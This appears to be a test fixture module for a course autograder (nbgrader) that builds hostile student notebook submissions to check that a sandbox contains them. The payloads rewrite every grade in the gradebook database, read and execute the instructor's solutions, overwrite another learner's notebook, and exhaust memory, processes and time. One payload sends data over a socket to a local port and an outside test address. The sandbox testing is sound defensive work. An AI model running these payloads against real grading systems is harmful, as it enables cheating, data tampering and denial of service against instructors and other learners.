"""Hostile submissions: learners whose code attacks the grader.

Each one is the released GELU notebook with the solution cell replaced by code that
first defines a correct ``gelu`` (so that, if the attack is harmless, the graded
cells still pass) and then attacks. The attacks name the real paths of the course
under test -- absolute and relative to nbgrader's working directory -- so that
without a sandbox they would succeed (test_classroom_hostile.py shows that for the
gradebook and the solutions on a plain ``nbgrader autograde``).

Every attack is bounded: the fork bomb stops at ``FORK_CAP`` processes that exit by
themselves after ``FORK_SLEEP`` seconds, the memory hog asks for one block, so even
a broken sandbox cannot take the machine down.
"""
from __future__ import annotations

import copy
import json
import textwrap

ASSIGNMENT = "02_gelu"
NOTEBOOK = "gelu.ipynb"
CELL = "gelu"
FORK_CAP = 1500
FORK_SLEEP = 20
MEMORY_ASK = 16 << 30  # 16 GiB: more than the kernel's limit, less than the machine could map

GELU = textwrap.dedent("""\
    def gelu(x):
        inner = math.sqrt(2.0 / math.pi) * (x + 0.044715 * x ** 3)
        return 0.5 * x * (1.0 + torch.tanh(inner))
    """)


def attacks(paths: dict) -> dict[str, str]:
    """{student: solution-cell source}. ``paths`` holds the absolute paths under test:
    ``gradebooks`` (list), ``solutions`` (list of instructor notebooks), ``victim_files``
    (list of another learner's files), ``victim`` (that learner's id), ``port`` (a listening TCP port on the host)."""
    p = {k: json.dumps(v) for k, v in paths.items()}
    return {
        "h_gradebook": GELU + textwrap.dedent(f"""\
            import sqlite3
            # nbgrader's layout puts the gradebook three levels up from the working dir
            targets = ["../../../gradebook.db"] + {p['gradebooks']}
            for path in targets:
                with open(path, "r+b"):
                    pass  # exists and is writable: rewrite every grade
                db = sqlite3.connect(path)
                db.execute("UPDATE grade SET manual_score = 1000")
                db.commit()
            """),
        "h_solutions": textwrap.dedent(f"""\
            import json
            for path in ["../../../solutions/02_gelu/gelu.ipynb"] + {p['solutions']}:
                nb = json.load(open(path))
                for cell in nb["cells"]:
                    if "def gelu" in "".join(cell["source"]):
                        exec("".join(cell["source"]))
                        break
                break
            """),
        "h_writer": GELU + textwrap.dedent(f"""\
            for path in ["../../" + {p['victim']} + "/02_gelu/gelu.ipynb"] + {p['victim_files']}:
                with open(path, "w") as f:
                    f.write("overwritten by another learner")
            """),
        "h_memory": GELU + textwrap.dedent(f"""\
            hog = bytearray({MEMORY_ASK})
            hog[-1] = 1
            """),
        "h_forkbomb": GELU + textwrap.dedent(f"""\
            import os, time
            started = 0
            try:
                for _ in range({FORK_CAP}):
                    if os.fork() == 0:
                        time.sleep({FORK_SLEEP})
                        os._exit(0)
                    started += 1
            finally:
                print("processes started:", started)
            """),
        "h_network": GELU + textwrap.dedent(f"""\
            import socket
            for host, port in [("127.0.0.1", {p['port']}), ("192.0.2.1", 80)]:
                socket.create_connection((host, port), timeout=3).sendall(b"grades please")
            """),
        "h_forever": GELU + "while True:\n    pass\n",
        "h_stubborn": GELU + textwrap.dedent("""\
            import time
            while True:
                try:
                    time.sleep(0.1)
                except BaseException:
                    pass  # swallow the interrupt nbgrader sends after its time limit
            """),
    }


# (student, cells added after the solution cell): code nbgrader alone would run for
# hours -- every cell stays under the per-cell time limit
SLOW_CELLS = ("h_many_cells", ["import time\ntime.sleep(4)\n"] * 200)


def _cell(nb: dict, grade_id: str) -> dict:
    for cell in nb["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            return cell
    raise KeyError(grade_id)


def notebook_with(released_nb: dict, source: str, extra_cells: list[str] = ()) -> str:
    nb = copy.deepcopy(released_nb)
    cell = _cell(nb, CELL)
    cell["source"] = source
    at = nb["cells"].index(cell) + 1
    for i, src in enumerate(extra_cells):
        nb["cells"].insert(at + i, {"cell_type": "code", "execution_count": None, "metadata": {},
                                    "outputs": [], "source": src, "id": f"extra-{i}"})
    return json.dumps(nb, indent=1)
